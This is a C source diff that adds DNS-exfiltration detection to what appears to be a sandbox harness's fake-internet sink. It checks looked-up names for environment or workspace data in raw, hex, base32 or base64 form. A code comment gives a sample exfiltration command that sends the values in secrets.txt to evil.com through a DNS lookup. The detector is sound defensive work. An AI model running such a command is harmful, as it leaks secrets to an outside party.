@@ -543,6 +543,14 @@ out:
 /* The reply as effects                                               */
 /* ---------------------------------------------------------------- */
 
+/* A piece of the world's data as it would ride in a DNS name. */
+struct data_form {
+	const char	*s;		/* lower-cased */
+	size_t		 n;
+	const char	*piece;		/* the data itself */
+	const char	*how;		/* "" (as it is), "hex", "base32"... */
+};
+
 struct effects {
 	struct arena		*a;
 	struct world_effect	*v;
@@ -550,6 +558,9 @@ struct effects {
 	const char		*source;	/* of the effects added now */
 	bool			 captured;	/* the sink saw a connection */
 	struct cpy		*c;		/* on_capture's world */
+	struct data_form	*forms;		/* made at the first DNS question */
+	size_t			 nforms;
+	bool			 has_forms;
 };
 
 static void
@@ -613,9 +624,183 @@ is_write_mode(const char *mode)
 }
 
 /*
+ * DNS exfiltration: data leaves in the name a lookup asks for
+ * (`getent hosts $(cut -d= -f2 secrets.txt).evil.com`): the resolver
+ * delivers the question, and so the data, to whoever serves the domain.
+ * The world's data is what the session gave it: the values of its
+ * environment and the workspace's files as they were before the input
+ * (the first DATA_SCAN bytes of each).  Its pieces are the runs of
+ * characters a DNS label can hold, at least DATA_PIECE_MIN long (shorter
+ * runs are ordinary words of ordinary names: "report", "summary"); a
+ * name carries a piece when it holds it as it is or hex-, base32- or
+ * base64-encoded (standard or URL-safe), case aside, in one label or
+ * across labels.  An encoded piece counts by the characters that do not
+ * depend on its neighbours, at each alignment (as tests/corpus/corpuslib.py
+ * finds the secret in the ground truth's captures).
+ */
+#define DATA_PIECE_MIN	8
+#define DATA_PIECE_MAX	FAKENET_NAME_MAX
+#define DATA_PIECES	256	/* looked for, at most */
+#define DATA_SCAN	65536	/* bytes of a file looked through */
+
+static bool
+is_label_char(unsigned char ch)
+{
+	return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') ||
+	    (ch >= '0' && ch <= '9') || ch == '-' || ch == '_';
+}
+
+static char
+lower(char ch)
+{
+	return ch >= 'A' && ch <= 'Z' ? (char)(ch - 'A' + 'a') : ch;
+}
+
+static void
+add_form(struct effects *e, const char *s, size_t n, const char *piece,
+    const char *how)
+{
+	struct data_form *f;
+	char *l;
+	size_t i;
+
+	if (n < DATA_PIECE_MIN || n > DATA_PIECE_MAX)
+		return;
+	l = arena_strndup(e->a, s, n);
+	for (i = 0; i < n; i++)
+		l[i] = lower(l[i]);
+	e->forms = arena_grow(e->a, e->forms, e->nforms, e->nforms + 1,
+	    sizeof *e->forms);
+	f = &e->forms[e->nforms++];
+	f->s = l;
+	f->n = n;
+	f->piece = piece;
+	f->how = how;
+}
+
+/* The stable characters of piece p[0..n) encoded in groups of g bytes
+ * to c characters of bits bits each from alphabet, at every alignment. */
+static void
+add_encoded(struct effects *e, const char *p, size_t n, unsigned g,
+    unsigned c, unsigned bits, const char *alphabet, const char *how,
+    const char *piece)
+{
+	char out[2 * DATA_PIECE_MAX + 8];
+	unsigned k;
+
+	for (k = 0; k < g; k++) {
+		size_t first = (k + g - 1) / g, last = (k + n) / g, j, o = 0;
+
+		for (j = first; j < last && o + c <= sizeof out; j++) {
+			uint64_t v = 0;
+			unsigned b, ch;
+
+			for (b = 0; b < g; b++)	/* byte j*g+b of k zeros + p */
+				v = v << 8 | (unsigned char)p[j * g + b - k];
+			for (ch = 0; ch < c; ch++)
+				out[o++] = alphabet[(v >> (bits * (c - 1 -
+				    ch))) & ((1u << bits) - 1)];
+		}
+		add_form(e, out, o, piece, how);
+	}
+}
+
+static void
+add_piece(struct effects *e, const char *p, size_t n)
+{
+	static const char b32[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+	static const char b64[] =
+	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+	static const char b64url[] =
+	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+	const char *piece;
+	size_t i, forms = e->nforms;
+
+	if (n < DATA_PIECE_MIN || n > DATA_PIECE_MAX)
+		return;
+	for (i = 0; i < forms; i++)	/* once each */
+		if (e->forms[i].how[0] == 0 && e->forms[i].n == n &&
+		    memcmp(e->forms[i].piece, p, n) == 0)
+			return;
+	piece = arena_strndup(e->a, p, n);
+	add_form(e, p, n, piece, "");
+	add_encoded(e, p, n, 1, 2, 4, "0123456789abcdef", "hex", piece);
+	add_encoded(e, p, n, 5, 8, 5, b32, "base32", piece);
+	add_encoded(e, p, n, 3, 4, 6, b64, "base64", piece);
+	add_encoded(e, p, n, 3, 4, 6, b64url, "base64", piece);
+}
+
+/* Every piece of p[0..n), until DATA_PIECES of them are known. */
+static void
+add_pieces(struct effects *e, size_t *pieces, const char *p, size_t n)
+{
+	size_t i = 0, j;
+
+	while (i < n && *pieces < DATA_PIECES) {
+		while (i < n && !is_label_char((unsigned char)p[i]))
+			i++;
+		for (j = i; j < n && is_label_char((unsigned char)p[j]); j++)
+			;
+		if (j - i >= DATA_PIECE_MIN && j - i <= DATA_PIECE_MAX) {
+			size_t before = e->nforms;
+			add_piece(e, p + i, j - i);
+			if (e->nforms > before)
+				(*pieces)++;
+		}
+		i = j;
+	}
+}
+
+static void
+make_forms(struct effects *e)
+{
+	const struct cpy *c = e->c;
+	size_t i, pieces = 0;
+
+	e->has_forms = true;
+	if (c == NULL)
+		return;
+	for (i = 0; i < c->nenv; i++) {
+		const char *v = strchr(c->env[i], '=');
+		v = v ? v + 1 : c->env[i];
+		add_pieces(e, &pieces, v, strlen(v));
+	}
+	for (i = 0; c->files != NULL && i < mfs_count(c->files); i++) {
+		size_t len;
+		const char *d = mfs_get(c->files, mfs_name(c->files, i), &len);
+		add_pieces(e, &pieces, d, len < DATA_SCAN ? len : DATA_SCAN);
+	}
+}
+
+/* The world's data a DNS name carries, or NULL. */
+static const struct data_form *
+carried_in(struct effects *e, const struct fakenet_str *name)
+{
+	char l[FAKENET_NAME_MAX + 1], flat[FAKENET_NAME_MAX + 1];
+	size_t i, n = 0, nl = name->n < FAKENET_NAME_MAX ? name->n :
+	    FAKENET_NAME_MAX;
+
+	if (!e->has_forms)
+		make_forms(e);
+	for (i = 0; i < nl; i++) {
+		l[i] = lower(name->p[i]);
+		if (l[i] != '.')
+			flat[n++] = l[i];
+	}
+	for (i = 0; i < e->nforms; i++) {
+		const struct data_form *f = &e->forms[i];
+		if (memmem(l, nl, f->s, f->n) != NULL ||
+		    memmem(flat, n, f->s, f->n) != NULL)
+			return f;
+	}
+	return NULL;
+}
+
+/*
  * What the fake internet's sink saw (fakenet.h): data that reached it is
- * exfiltration, told as the request's URL; a bare connection, a refused
- * one and a DNS question are listed only.
+ * exfiltration, told as the request's URL, and so is a DNS question
+ * whose name carries the world's data (above); a bare connection, a
+ * refused one and any other DNS question are listed only.
  */
 static void
 on_capture(void *ctx, const struct fakenet_capture *cp, const void *frame,
@@ -638,6 +823,16 @@ on_capture(void *ctx, const struct fakenet_capture *cp, const void *frame,
 	}
 	fakenet_url(cp, url, sizeof url);
 	if (cp->kind == FAKENET_DNS) {
+		const struct data_form *f = carried_in(e, &cp->name);
+
+		if (f != NULL) {
+			const char *name = url + strlen("dns://");
+			effect(e, "send", arena_strdup(a, url), "exfiltration",
+			    arena_printf(a, "sent '%s'%s%s%s in a DNS question "
+			    "for %s", shown(a, f->piece), f->how[0] ? " (" : "",
+			    f->how, f->how[0] ? "-encoded)" : "", name));
+			return;
+		}
 		effect(e, "resolve", arena_strndup(a, cp->name.p, cp->name.n),
 		    NULL, arena_printf(a, "looked up %.*s", (int)cp->name.n,
 		    cp->name.p));
